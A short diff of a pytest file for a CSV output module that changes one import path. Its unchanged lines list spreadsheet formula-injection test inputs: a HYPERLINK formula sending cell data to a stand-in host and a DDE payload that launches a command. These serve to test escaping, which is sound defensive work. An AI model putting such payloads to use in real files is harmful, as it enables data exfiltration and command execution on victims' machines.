@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from profilegen.app.build import Plan, build
-from profilegen.output.cells import csv_cell
+from profilegen.output.csv_cells import csv_cell
 
 RISKY = [
     '=HYPERLINK("https://evil.test/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "+1+1",
